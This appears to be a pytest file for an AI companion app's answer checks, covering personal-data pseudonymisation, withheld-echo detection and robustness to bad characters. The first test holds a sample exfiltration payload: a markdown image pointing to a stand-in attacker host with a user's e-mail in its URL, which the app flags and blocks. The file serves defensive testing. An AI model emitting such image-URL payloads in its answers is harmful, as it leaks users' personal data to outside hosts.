"""The answer checks as the pipeline runs them: on the echo fakes' answers, end to end."""

from __future__ import annotations

import asyncio
import gc
from pathlib import Path

from app.controller.companion import Companion
from app.controller.consent import ConsentAnswer, FixedConsent
from app.controller.events import ChecksDone, TurnEvent, TurnFailed, TurnFinished
from app.controller.turn import TurnRequest
from tests.controller.conftest import open_companion
from tests.controller.drive import events
from tests.controller.echo import Rig
from tests.fakes.openai_server import FakeOpenAI

EMAIL = "ola.nowak@fastmail.example"


async def _turn(
    companion: Companion, message: str, worker: str, conversation: str | None = None
) -> tuple[dict[str, dict[str, str]], TurnFinished]:
    found: list[TurnEvent] = await events(
        companion, TurnRequest(message=message, worker_id=worker, conversation_id=conversation)
    )
    [checks] = [e for e in found if isinstance(e, ChecksDone)]
    [done] = [e for e in found if isinstance(e, TurnFinished)]
    return {c.name: c for c in checks.checks}, done


async def test_an_image_whose_url_carries_a_placeholder_is_flagged_and_not_displayed(
    companion: Companion, rig: Rig
) -> None:
    # The echo answers with what it got: the e-mail as [EMAIL_1] inside an image URL,
    # which restoration turns back into the address: the classic exfiltration answer.
    message = f"Status: ![ok](https://evil.example/pixel.png?u={EMAIL}) thanks"
    checks, done = await _turn(companion, message, "gpt-ext")
    assert "[EMAIL_1]" in rig.openai.requests[-1].body.decode()
    assert checks["no_exfiltration"].status == "fail"
    assert EMAIL not in checks["no_exfiltration"].detail
    assert done.answer == message
    assert done.display == "Status: [blocked image: ok] thanks"


async def test_an_ordinary_answer_passes_every_check(companion: Companion) -> None:
    message = (
        "Here is the fix, see [the docs](https://docs.python.org/3/library/json.html):\n\n"
        '```python\nimport json\nprint(json.dumps({"a": 1}))\n```\n'
    )
    checks, done = await _turn(companion, message, "claude-ext")
    assert {name: c.status for name, c in checks.items()} == dict.fromkeys(
        ["not_empty", "length", "no_withheld_echo", "no_exfiltration", "code_blocks", "hedging"],
        "pass",
    )
    assert done.display == done.answer == message


async def test_a_value_this_worker_was_allowed_to_see_is_not_a_withheld_echo(
    companion: Companion, rig: Rig
) -> None:
    companion.set_consent(FixedConsent(ConsentAnswer.PSEUDONYMISE))
    message = f"Please draft a reply to {EMAIL} saying I will be late."
    _, first = await _turn(companion, message, "gpt-ext")  # e-mail pseudonymised: in the vault
    checks, _ = await _turn(companion, message, "gpt-appr", first.conversation_id)
    assert EMAIL in rig.openai.requests[-1].body.decode()  # personal: approved sees it
    assert checks["no_withheld_echo"].status == "pass"


async def test_a_lone_surrogate_in_an_answer_does_not_crash_the_turn(
    rig: Rig, tmp_path: Path, test_keyring: None, fake_openai: FakeOpenAI
) -> None:
    fake_openai.api_key = None
    fake_openai.script_reply(["Hello ", "\ud800", " there"])
    plain = {
        "id": "plain",
        "kind": "openai",
        "base_url": fake_openai.base_url,
        "model": "gpt-4o-mini",
        "privacy_class": "external_provider",
        "max_retries": 0,
    }
    companion = await open_companion(
        rig, tmp_path, FixedConsent(ConsentAnswer.PSEUDONYMISE), extra=[plain]
    )
    try:
        found = await events(companion, TurnRequest(message=f"Mail {EMAIL}", worker_id="plain"))
        assert any(isinstance(e, TurnFinished | TurnFailed) for e in found)
    finally:
        # Whatever the failure left behind is collected on this loop, not in a later test.
        gc.collect()
        await asyncio.sleep(0.1)
        await companion.aclose()
